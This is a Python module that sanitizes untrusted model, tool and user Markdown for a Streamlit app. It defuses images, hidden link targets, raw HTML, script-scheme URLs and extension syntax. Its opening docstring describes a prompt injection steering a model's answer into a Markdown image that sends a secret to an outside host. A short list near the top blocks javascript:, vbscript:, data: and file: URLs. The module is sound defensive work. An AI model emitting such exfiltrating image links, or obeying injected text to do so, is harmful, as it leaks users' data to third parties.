"""Untrusted text (model, tool, user, store) made safe to draw with Streamlit or to export.

`st.markdown` and widget labels render Markdown images, so an answer a prompt injection
steered into `![x](http://host/?d=secret)` would make the browser send data away. Links
are kept but always show their full target, so nothing is reached without being seen.
Raw HTML is escaped too: Streamlit shows it as text, but the Markdown export is opened in
viewers that would render an `<img>` or a `<script>`.

Every step takes time linear in the text: a visitor or a model chooses it, and one slow
call holds the GIL, so it freezes every session on the server. Patterns are RE2 (no
backtracking); the inline rewrite is a scanner whose every look-ahead stops at a bracket,
quote, backtick run or space it does not look past again (index lists, not re-searches).
"""

from __future__ import annotations

import contextlib
import functools
from bisect import bisect_left
from collections.abc import Callable
from itertools import groupby
from string import ascii_letters, punctuation

import re2
from markdown_it import MarkdownIt
from markdown_it.common.utils import unescapeAll
from markdown_it.token import Token

from streamlit_agent.safety.plain_text import printable

_ESCAPE_ALL = str.maketrans({c: "\\" + c for c in punctuation})
_ESCAPE_BLUNT = str.maketrans({c: "\\" + c for c in "\\![]<${:"})
_DROP_C0_AND_SPACE = dict.fromkeys(range(0x21))
_SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:", "file:")
# Escapes stay separate tokens (no text_join), so the check can tell `\$` from a live `$`.
_MD = MarkdownIt("commonmark").enable("table").enable("strikethrough").disable("text_join")
# Streamlit keeps URLs markdown-it refuses (`data:`; `javascript:` too in older releases),
# so the check must see every link and image, whatever its scheme.
_MD.validateLink = lambda url: True  # type: ignore[method-assign]

# RE2's `\s` is ASCII; these are the characters Python's (and the rewrite's) isspace takes.
_SPACE = r"\t-\r\x1c-\x20\x85\xa0\x{1680}\x{2000}-\x{200a}\x{2028}\x{2029}\x{202f}\x{205f}\x{3000}"
_DEST = rf"<(?:[^<>\n\\]|\\.)*>|(?:[^{_SPACE}()\\]|\\.|\((?:[^{_SPACE}()\\]|\\.)*\))*"
_TITLE = r"\"(?:[^\"\\]|\\.)*\"|'(?:[^'\\]|\\.)*'|\((?:[^()\\]|\\.)*\)"
_DEF = re2.compile(
    rf"(?m)^ {{0,3}}\[(?P<label>(?:[^\[\]\\]|\\.)+)\]:[ \t]*\n?[ \t]*(?P<dest>{_DEST})"
    rf"(?:[ \t]*\n?[ \t]*(?:{_TITLE}))?[ \t]*$"
)
# Streamlit's parser also reads math (`$`), directives (`:name[`, `:name{`, `::name`),
# footnotes (`[^x]:`) and bare URLs, which swallow what follows up to a space: a code
# span's backtick, a link's `[`, an escaping `\`. Each can make text that CommonMark keeps
# inert render (the line-start ones by cutting a paragraph and a code span across it), so
# bare URLs become `<...>` autolinks and none of the rest may be left live.
_NOT_NAME = " \n\r" + punctuation  # micromark takes tabs in a directive name too
_NAME = r"[^ \n\r!-/:-@\[-`{-~](?:[^ \n\r!-/:-@\[-`{-~]|[-_])*"
_LIVE = re2.compile(rf"\$|:{_NAME}[\[{{\x01]")
# GFM takes `http` after anything but an ASCII letter (micromark's check is ASCII only).
_BARE_URL = re2.compile(r"(?:^|[^A-Za-z])(?i:https?://)|(?i:www\.)")
_TRAIL = "!\"&')*,.:;?]_~"  # left out of a bare URL's end, as GFM does
_BLOCK_START = re2.compile(  # GFM finds tables markdown-it does not, by their delimiter row
    r"(?m)^[ \t]*(?:\$\$|::|\[\^[^\]\n]*\]:"
    r"|[ \t|:-]*(?:-[ \t|:-]*[|:]|[|:][ \t|:-]*-)[ \t|:-]*$)"
)
_TRIGGERS = frozenset("`\\:!$[<wWhH")  # first characters of what the inline rewrite changes
_SCHEME = frozenset(ascii_letters + "0123456789+.-")
_ESCAPABLE = punctuation + "\n"  # what a backslash escapes (a newline: a hard break)


def _shortcodes_off(text: str) -> str:
    """Streamlit swaps `:streamlit:` (the logo, an <img>) and `:material_x:` (an icon) in
    text nodes after parsing, so escapes cannot stop them; a word joiner keeps them typed."""
    if ":" not in text:
        return text
    parts = text.split(":")
    out = [parts[0]]
    for k, part in enumerate(parts[1:], start=1):
        logo = part == "streamlit" and k + 1 < len(parts)
        icon = part.startswith("material_") and len(part) > 9 and _is_word(part[9])
        out += [":\u2060" if logo or icon else ":", part]
    return "".join(out)


def _is_word(char: str) -> bool:
    return char.isalnum() or char == "_"  # what `\w` matches


def _escape(text: str) -> str:
    return _shortcodes_off(text).translate(_ESCAPE_ALL)


def _is_script(url: str) -> bool:
    return url.translate(_DROP_C0_AND_SPACE).casefold().startswith(_SCRIPT_SCHEMES)


def _autolink(url: str) -> str:
    """A bare URL as a `<...>` autolink, ending where GFM would end it."""
    end, opened, closed = len(url), url.count("("), url.count(")")
    while url[end - 1] in _TRAIL:
        if url[end - 1] == ")":
            if opened >= closed:
                break  # a closing paren of the URL's own, as in Wikipedia links
            closed -= 1
        end -= 1
    return f"<{url[:end]}>" + url[end:].translate(_ESCAPE_ALL)


def _label_key(label: str) -> str:
    return " ".join(label.split()).casefold()


class _Overgrown(Exception):
    """The rewrite would repeat definitions' destinations more than the text is long."""


class _Definitions(dict[str, str]):
    """Link definitions by label key. Every use of one repeats its destination (twice:
    shown and linked), so a long destination used thousands of times would make the
    rewrite, and the parse that checks it, quadratic; uses may repeat `allowance` chars."""

    def __init__(self, allowance: int) -> None:
        super().__init__()
        self.allowance = allowance

    def use(self, key: str) -> str | None:
        dest = self.get(key)
        if dest is not None:
            self.allowance -= len(dest)
            if self.allowance < 0:
                raise _Overgrown
        return dest


def _inline(text: str, defs: _Definitions, in_link: bool) -> str:
    return _Inline(text, defs, in_link).rewrite()


class _Inline:
    """Inline syntax rewritten, left to right: code spans, escapes and autolinks kept (so
    brackets inside them stay literal), extension syntax made literal, images turned into
    links and every link made to show its target. A `!` before an image is escaped, or it
    would turn the link that replaces the image into one."""

    def __init__(self, text: str, defs: _Definitions, in_link: bool) -> None:
        self.text, self.n, self.defs, self.in_link = text, len(text), defs, in_link
        self._found: dict[str, list[int]] = {}
        self._runs: dict[int, list[int]] | None = None
        self._cuts: list[int] = []

    def rewrite(self) -> str:
        text, out, done = self.text, [], 0
        for p in [i for i, c in enumerate(text) if c in _TRIGGERS]:
            if p < done:
                continue
            hit = self._at(p)
            if hit is not None:
                out += [text[done:p], hit[1]]
                done = hit[0]
        out.append(text[done:])
        return "".join(out)

    def _at(self, p: int) -> tuple[int, str] | None:
        """The end and replacement of what starts at `p`, or None when nothing does."""
        text, c = self.text, self.text[p]
        if c == "`":
            return self._code(p)
        if c == "\\":
            follows = text[p + 1 : p + 2]
            return (p + 2, text[p : p + 2]) if follows and follows in _ESCAPABLE else None
        if c == ":":
            if text.startswith(":streamlit:", p):
                return p + 11, ":\u2060streamlit:"
            return (p + 1, "\\:") if text.startswith(":", p + 1) or self._directive(p + 1) else None
        if c == "$":
            return p + 1, "\\$"
        if c == "!" and text.startswith("![", p + 1):
            return p + 1, "\\!"
        if c == "[" and text.startswith("^", p + 1) and self._footnote(p + 2):
            return p + 1, "\\["
        if c in "![":
            return self._link(p)
        if c == "<":  # raw HTML made text: an export's viewer may render it
            return self._uri(p) or (p + 1, "\\<")
        if text[p : p + 4].lower() == "www.":
            return p + 4, text[p : p + 4] if self.in_link else text[p : p + 3] + "\\."
        return self._bare_url(p)

    def _positions(self, chars: str) -> list[int]:
        """Where `chars` occur, listed once per text so look-aheads never search it again."""
        found = self._found.get(chars)
        if found is None:
            found = self._found[chars] = [i for i, c in enumerate(self.text) if c in chars]
        return found

    def _next(self, chars: str, start: int) -> int:
        """The first index at or after `start` holding one of `chars`, else the length."""
        found = self._positions(chars)
        k = bisect_left(found, start)
        return found[k] if k < len(found) else self.n

    def _skip_space(self, i: int) -> int:
        while i < self.n and self.text[i].isspace():
            i += 1
        return i

    def _directive(self, i: int) -> bool:
        """A directive name at `i` followed by `[` or `{` (the name stops at punctuation)."""
        text = self.text
        if i >= self.n or text[i] in _NOT_NAME:
            return False
        i += 1
        while i < self.n and (text[i] not in _NOT_NAME or text[i] in "-_"):
            i += 1
        return text.startswith(("[", "{"), i)

    def _footnote(self, i: int) -> bool:
        """`[^` at `i - 2` starts a footnote definition: `]:` before any line end."""
        end = self._next("]\n", i)
        return self.text.startswith("]:", end)

    def _code(self, p: int) -> tuple[int, str]:
        """A code span from `p` kept whole; an unclosed backtick run kept as typed. The
        closer is the next run of the same length before a line that cuts a paragraph in
        GFM (blank, `$$`, `::` or a footnote start)."""
        end = p
        while end < self.n and self.text[end] == "`":
            end += 1
        if self._runs is None:
            self._index_runs()
        starts = (self._runs or {}).get(end - p, [])
        k = bisect_left(starts, end)
        cut = bisect_left(self._cuts, end)
        limit = self._cuts[cut] if cut < len(self._cuts) else self.n
        if k < len(starts) and starts[k] < limit:
            end = starts[k] + end - p
        return end, self.text[p:end]

    def _index_runs(self) -> None:
        text, runs, i = self.text, {}, self._next("`", 0)
        while i < self.n:
            start = i
            while i < self.n and text[i] == "`":
                i += 1
            runs.setdefault(i - start, []).append(start)
            i = self._next("`", i)
        self._runs = runs
        for c in self._positions("\n"):
            after = c + 1
            while after < self.n and text[after] in " \t":
                after += 1
            if text.startswith(("\n", "$$", "::", "[^"), after):
                self._cuts.append(c)

    def _uri(self, p: int) -> tuple[int, str] | None:
        """A `<scheme:...>` autolink, kept as it is."""
        text, i = self.text, p + 1
        if i >= self.n or text[i] not in ascii_letters:
            return None
        j = i + 1
        while j < self.n and j - i <= 32 and text[j] in _SCHEME:
            j += 1
        if not 2 <= j - i <= 32 or not text.startswith(":", j):
            return None
        j += 1
        while j < self.n and not (text[j].isspace() or text[j] in "<>"):
            j += 1
        return (j + 1, text[p : j + 1]) if text.startswith(">", j) else None

    def _bare_url(self, p: int) -> tuple[int, str] | None:
        text = self.text
        if p and text[p - 1] in ascii_letters:
            return None
        head = text[p : p + 8].lower()
        if not head.startswith(("http://", "https://")):
            return None
        end = p + (7 if head.startswith("http://") else 8)
        while (
            end < self.n
            and not (text[end].isspace() or text[end] in "<>\x7f")
            and (text[end] >= " ")
        ):
            end += 1
        url = text[p:end]
        return end, url if self.in_link else _autolink(url)

    def _link(self, p: int) -> tuple[int, str] | None:
        """`[text]`, `[text](dest "title")` or `[text][label]` from `p` (after a `!` for
        an image), rewritten; None when no `]` closes the text."""
        text = self.text
        bang = text[p] == "!"
        start = p + 1 if bang else p
        if not text.startswith("[", start) or (close := self._bracketed(start + 1)) is None:
            return None
        after, dest, label = close + 1, None, None
        paren = self._paren(after + 1) if text.startswith("(", after) else None
        if paren is not None:
            dest, end = text[paren[0] : paren[1]], paren[2]
        elif text.startswith("[", after) and (shut := self._plain(after + 1)) is not None:
            label, end = text[after + 1 : shut], shut + 1
        else:
            end = after
        return end, self._link_text(bang, text[start + 1 : close], dest, label, text[p:end])

    def _bracketed(self, i: int) -> int | None:
        """The `]` ending link text from `i`: escapes skipped, one level of `[...]` nested."""
        text = self.text
        while i < self.n:
            c = text[i]
            if c == "]":
                return i
            if c == "[":
                inner = self._plain(i + 1)
                if inner is None:
                    return None
                i = inner
            i += 2 if c == "\\" else 1
        return None

    def _plain(self, i: int) -> int | None:
        """The `]` ending bracketed text with no bracket inside (escapes skipped)."""
        while i < self.n:
            c = self.text[i]
            if c == "]":
                return i
            if c == "[" or (c == "\\" and i + 1 >= self.n):
                return None
            i += 2 if c == "\\" else 1
        return None

    def _paren(self, s: int) -> tuple[int, int, int] | None:
        """After `](`: the destination's span and the end of `)`, as the CommonMark-like
        pattern this replaces read them (greedy destination first, then an empty one)."""
        w = self._skip_space(s)
        for dest_end in (self._angle(w), self._bare_destination(w)):
            if dest_end is not None and (end := self._after_destination(dest_end)) is not None:
                return w, dest_end, end
        if w > s and (title := self._title(w)) is not None and (end := self._close(title)):
            return w, w, end
        return None

    def _after_destination(self, i: int) -> int | None:
        t = self._skip_space(i)
        if t > i and (title := self._title(t)) is not None and (end := self._close(title)):
            return end
        return self._close(i)

    def _close(self, i: int) -> int | None:
        i = self._skip_space(i)
        return i + 1 if self.text.startswith(")", i) else None

    def _angle(self, i: int) -> int | None:
        """`<...>` from `i` (no `<`, `>` or line end inside), its end."""
        if not self.text.startswith("<", i):
            return None
        i += 1
        while i < self.n and self.text[i] not in "<>\n":
            if self.text[i] == "\\" and i + 1 >= self.n:
                return None
            i += 2 if self.text[i] == "\\" else 1
        return i + 1 if self.text.startswith(">", i) else None

    def _bare_destination(self, i: int) -> int:
        """A destination without spaces, with balanced one-level parentheses, its end."""
        text = self.text
        while i < self.n and not (text[i].isspace() or text[i] == ")"):
            if text[i] == "\\":
                if i + 1 >= self.n:
                    break
                i += 2
            elif text[i] == "(":
                group = self._group(i + 1)
                if group is None:
                    break
                i = group
            else:
                i += 1
        return i

    def _group(self, i: int) -> int | None:
        """The end of `(...)` whose `(` is before `i`: no space or parenthesis inside."""
        while i < self.n:
            c = self.text[i]
            if c == ")":
                return i + 1
            if c == "(" or c.isspace() or (c == "\\" and i + 1 >= self.n):
                return None
            i += 2 if c == "\\" else 1
        return None

    def _title(self, i: int) -> int | None:
        """The end of a `"..."`, `'...'` or `(...)` title starting at `i`."""
        opener = self.text[i : i + 1]
        if not opener or opener not in "\"'(":
            return None
        closer, stop = (")", "(") if opener == "(" else (opener, "")
        i += 1
        while i < self.n:
            c = self.text[i]
            if c == closer:
                return i + 1
            if c == stop or (c == "\\" and i + 1 >= self.n):
                return None
            i += 2 if c == "\\" else 1
        return None

    def _link_text(
        self, bang: bool, text: str, dest: str | None, label: str | None, raw: str
    ) -> str:
        defs, in_link = self.defs, self.in_link
        if dest is None:
            dest = defs.use(_label_key(label or text))
            if dest is None and label is None and text in (" ", "x", "X") and not bang:
                return raw  # a task list box, which no definition can name (or hardly)
            if dest is None:  # plain brackets, escaped so no definition we missed makes a link
                mark, rest = "\\!" if bang else "", "" if label is None else f"\\[{label}]"
                return f"{mark}\\[{_inline(text, defs, in_link)}]{rest}"
        shown = unescapeAll(dest[1:-1] if dest.startswith("<") else dest)
        # Links cannot nest, and a script URL should not be one click away.
        as_link = not in_link and not _is_script(shown)
        inner = _inline(text, defs, in_link or as_link)
        if bang:
            inner = f"{inner} (image: {_escape(shown)})"
        elif shown not in text:
            inner = f"{inner} ({_escape(shown)})"
        return f"[{inner}]({dest})" if as_link else inner


def _outside_code(text: str, change: Callable[[str], str]) -> str:
    """`text` with `change` applied to each run of lines outside code blocks."""
    code = {
        line
        for token in _MD.parse(text)
        if token.type in ("fence", "code_block") and token.map
        for line in range(*token.map)
    }
    runs = groupby(enumerate(text.split("\n")), key=lambda pair: pair[0] in code)
    joined = (("\n".join(line for _, line in run), is_code) for is_code, run in runs)
    return "\n".join(chunk if is_code else change(chunk) for chunk, is_code in joined)


def _transform(text: str) -> str:
    """`text` with images made links and links showing targets; raises _Overgrown."""
    defs = _Definitions(allowance=len(text) + 1_000)

    def show_definition(match: re2._Match) -> str:
        # Uses are rewritten inline, so the definition stays only as visible text; the blank
        # line keeps an indented block after it a code block rather than paragraph text.
        if match["dest"] and not match["label"].startswith("^"):  # `[^x]:` is a GFM footnote
            defs.setdefault(_label_key(match["label"]), match["dest"])
        return "\\" + match[0].lstrip(" ") + "\n"

    if _DEF.search(text):  # parsing dominates the cost, so skip the pass when it is idle
        text = _outside_code(text, lambda chunk: _DEF.sub(show_definition, chunk))
    # Code blocks are found again: text that stopped being a definition changes the blocks.
    return _outside_code(text, lambda chunk: _inline(chunk, defs, False))


def _shows_target(href: str, visible: str) -> bool:
    decoded = _MD.normalizeLinkText(href)
    return any(t in visible for t in (href, decoded, decoded.removeprefix("mailto:")))


def _inline_is_safe(children: list[Token]) -> bool:
    links: list[list[str]] = []
    # The source as extensions see it (escapes and code inert), the source outside links and
    # code (escapes as typed), and the text nodes Streamlit's own shortcodes run on.
    live, outside, joined = [], [], []
    in_autolink = False  # its text is a URL no extension reads
    for child in children:
        kind, content = child.type, child.content
        if kind == "image":
            return False
        if kind in ("link_open", "link_close"):
            in_autolink = kind == "link_open" and child.markup == "autolink"
        if kind == "link_open":
            links.append([str(child.attrs.get("href", ""))])
        elif kind == "link_close":
            href, *parts = links.pop()
            if not _shows_target(href, "".join(parts)):
                return False
        elif links:
            links[-1].append(content if kind in ("text", "text_special", "code_inline") else " ")
        gap = "\n" if kind in ("softbreak", "hardbreak") else "\x01"
        text = content if kind == "text" and not in_autolink else gap
        live.append("\x00" if kind == "code_inline" else text)
        joined.append(content if kind in ("text", "text_special") else "\x00")
        typed = {"text": content, "text_special": child.markup}.get(kind, "\x00")
        outside.append("\x00" if links or kind == "link_close" else typed)
    return not (
        _LIVE.search("".join(live))
        or _BARE_URL.search("".join(outside))  # GFM would link it, taking in what follows
        or ":streamlit:" in "".join(joined)
    )


def _is_safe(markdown: str) -> bool:
    """No image, hidden link target, logo or live extension syntax, by markdown-it's reading."""
    env: dict[str, object] = {}
    tokens = _MD.parse(markdown, env)
    lines = markdown.split("\n")
    # Indented code must follow a blank line: one after a block only markdown-it sees (a
    # table continued lazily) is paragraph text to GFM. A definition GFM may read as a
    # footnote holding an image, so none may be left either.
    return not env.get("references") and all(
        not (
            token.type == "code_block"
            and token.map
            and token.map[0]
            and lines[token.map[0] - 1].strip(" \t>")
        )
        and (token.type != "inline" or not _BLOCK_START.search(token.content))
        and _inline_is_safe(token.children or [])
        for token in tokens
    )


# Pure and called for every drawn message on every rerun: remember recent results.
@functools.lru_cache(maxsize=4096)
def markdown_text(text: str) -> str:
    """`text` as Markdown for `st.markdown`: no images, every link showing its target."""
    text = printable(text).replace("\r\n", "\n").replace("\r", "\n")
    blunt = _shortcodes_off(text).translate(_ESCAPE_BLUNT)
    candidates = [blunt]
    # References used to blow the text up are shown as typed instead.
    with contextlib.suppress(_Overgrown):
        candidates.insert(0, _transform(text))
    for candidate in candidates:
        if _is_safe(candidate):
            return candidate
    # With every ASCII punctuation escaped no link, image, code or extension can start.
    return _escape(text)


@functools.lru_cache(maxsize=4096)
def option_text(text: str, limit: int | None = None) -> str:
    """`text` as one line of at most `limit` characters, for places Streamlit draws as
    plain text (selectbox options): nothing there is Markdown, so nothing is escaped."""
    line = " ".join(printable(text).split())
    if limit is not None and len(line) > limit:
        line = line[: max(limit - 1, 0)].rstrip() + "…"
    return line


@functools.lru_cache(maxsize=4096)
def label_text(text: str, limit: int | None = None) -> str:
    """`text` as one literal line for a widget label or title, at most `limit` characters."""
    return _escape(option_text(text, limit))
